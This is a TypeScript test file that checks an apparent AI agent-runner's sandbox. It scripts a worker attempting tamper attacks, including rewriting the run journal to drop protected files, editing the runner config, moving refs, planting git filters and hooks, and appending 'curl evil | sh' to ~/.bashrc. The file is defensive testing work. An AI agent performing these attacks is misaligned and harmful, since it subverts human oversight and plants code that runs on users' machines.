/**
 * The attacks of tamper-attacks.test.ts again, with the worker confined (`sandbox: "required"`):
 * each write the attack needs fails inside the sandbox, so whatever the run's outcome (complete, or
 * stopped by a check), git and the user's files show nothing of it.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { approve, ok, plan, startRun, TestRepo } from '../helpers/harness.js';
import { statusOf, type XStep } from '../helpers/e2e-support.js';

type Mode = 'worktree' | 'in-place';
const node = (code: string) => ['node', '-e', code];
const commonDir = `require('child_process').execSync('git rev-parse --git-common-dir').toString().trim()`;
const commit = ['git', '-c', 'user.name=w', '-c', 'user.email=w@w', 'commit', '-q', '-m', 'evil'];

interface Attack {
  name: string;
  modes: Mode[];
  step: (ctx: { repo: TestRepo; home: string; marker: string }) => XStep;
}

const ATTACKS: Attack[] = [
  { name: 'git checkout -b side', modes: ['worktree', 'in-place'], step: () => ({ exec: [['git', 'checkout', '-q', '-b', 'side']] }) },
  { name: 'git checkout main', modes: ['in-place'], step: () => ({ exec: [['git', 'checkout', '-q', 'main']] }) },
  {
    name: 'commit, then git update-ref refs/heads/main',
    modes: ['worktree', 'in-place'],
    step: () => ({ write: { 'evil.txt': 'evil\n' }, exec: [['git', 'add', 'evil.txt'], commit, ['git', 'update-ref', 'refs/heads/main', 'HEAD']] }),
  },
  {
    name: 'editing the run\'s journal',
    modes: ['worktree', 'in-place'],
    step: () => ({ exec: [node(`const fs=require('fs');const f=process.env.RUNR_RUN_DIR+'/events.ndjson';fs.writeFileSync(f,fs.readFileSync(f,'utf8').replace('"protect":["check.js"]','"protect":[]'))`)] }),
  },
  {
    name: 'editing .runr/runr.config.json',
    modes: ['worktree', 'in-place'],
    step: ({ repo }) => ({ exec: [node(`require('fs').writeFileSync(${JSON.stringify(path.join(repo.dir, '.runr', 'runr.config.json'))}, '{}')`)] }),
  },
  {
    name: 'a clean filter with .git/info/attributes',
    modes: ['worktree', 'in-place'],
    step: ({ marker }) => ({
      exec: [
        ['git', 'config', 'filter.evil.clean', `sh -c 'touch ${marker}; cat'`],
        node(`require('fs').writeFileSync(${commonDir}+'/info/attributes','* filter=evil\\n')`),
      ],
    }),
  },
  {
    name: 'a post-index-change hook and core.fsmonitor',
    modes: ['worktree', 'in-place'],
    step: ({ marker }) => ({
      exec: [
        ['git', 'config', 'core.fsmonitor', `touch ${marker}`],
        node(`require('fs').writeFileSync(${commonDir}+'/hooks/post-index-change','#!/bin/sh\\ntouch ${marker}\\n',{mode:0o755})`),
      ],
    }),
  },
  { name: '.git/info/exclude', modes: ['worktree', 'in-place'], step: () => ({ exec: [node(`require('fs').appendFileSync(${commonDir}+'/info/exclude','src/\\n')`)] }) },
  {
    name: 'files in the user\'s checkout',
    modes: ['worktree'],
    step: ({ repo }) => ({ exec: [node(`require('fs').writeFileSync(${JSON.stringify(path.join(repo.dir, 'README.md'))}, 'defaced\\n')`)] }),
  },
  {
    name: 'a file in $HOME',
    modes: ['worktree', 'in-place'],
    step: ({ home }) => ({ exec: [node(`require('fs').appendFileSync(${JSON.stringify(path.join(home, '.bashrc'))}, 'curl evil | sh\\n')`)] }),
  },
];

/** Everything the attacks aim at, as bytes (or ref values), to compare before and after the run. */
function watchedState(repo: TestRepo, home: string): Record<string, string> {
  const gitDir = path.join(repo.dir, '.git');
  const read = (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, 'utf8') : '(missing)');
  return {
    main: repo.git('rev-parse', 'main'),
    branches: repo.git('for-each-ref', '--format=%(refname)', 'refs/heads', 'refs/tags').split('\n').filter((r) => !r.startsWith('refs/heads/runr/')).join(' '),
    config: read(path.join(gitDir, 'config')),
    hooks: fs.readdirSync(path.join(gitDir, 'hooks')).sort().join(' '),
    attributes: read(path.join(gitDir, 'info', 'attributes')),
    exclude: read(path.join(gitDir, 'info', 'exclude')).replace(/# runr's run data and worktrees\n\/\.runr\/\n/, ''),
    runrConfig: read(path.join(repo.dir, '.runr', 'runr.config.json')),
    readme: repo.read('README.md'),
    bashrc: read(path.join(home, '.bashrc')),
  };
}

describe.each<Mode>(['worktree', 'in-place'])('confined workers (%s)', (mode) => {
  it.each(ATTACKS.filter((a) => a.modes.includes(mode)).map((a) => [a.name, a] as const))('%s: nothing of it reaches git or the user\'s files', async (_name, attack) => {
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'runr-home-'));
    fs.writeFileSync(path.join(home, '.bashrc'), '# mine\n');
    const repo = new TestRepo({ config: { sandbox: 'required', scope: { allowlist: [], denylist: [], presets: [], protect: ['check.js'] } } });
    const marker = path.join(repo.stateDir, 'PWNED');
    const step = attack.step({ repo, home, marker });
    repo.setScript({
      PLAN: [{ result: plan('the change') }],
      IMPLEMENT: [{ ...step, write: { 'src/a.js': 'export const a = 1;\n', ...step.write }, result: ok() }],
      REVIEW: [{ result: approve() }],
    } as never);
    const before = watchedState(repo, home);
    const env = { HOME: home };
    const run = mode === 'worktree'
      ? await startRun(repo, [], env)
      : await (async () => {
        const r = await repo.runr(['run', '--task', repo.taskPath, '--json'], { env });
        return { ...r, runId: JSON.parse(r.stdout.split('\n')[0] ?? '{}').run_id as string };
      })();

    const status = await statusOf(repo, run.runId);
    expect(['complete', 'worker_tampered'], `${status.stop_reason}: ${status.stop_detail}`).toContain(status.stop_reason);
    expect(watchedState(repo, home)).toEqual(before);
    expect(fs.existsSync(marker)).toBe(false);
    // On every ref, nothing was ever committed but the files the worker wrote in its worktree (all in scope here).
    const committed = repo.git('log', '--all', '--format=', '--name-only', '^main').split('\n').filter(Boolean);
    const written = ['src/a.js', ...Object.keys(step.write ?? {})].sort();
    expect([...new Set(committed)].sort()).toEqual(status.stop_reason === 'complete' ? written : []);
    expect(repo.events(run.runId)[0].run.config.scope.protect).toEqual(['check.js']);
  });
});
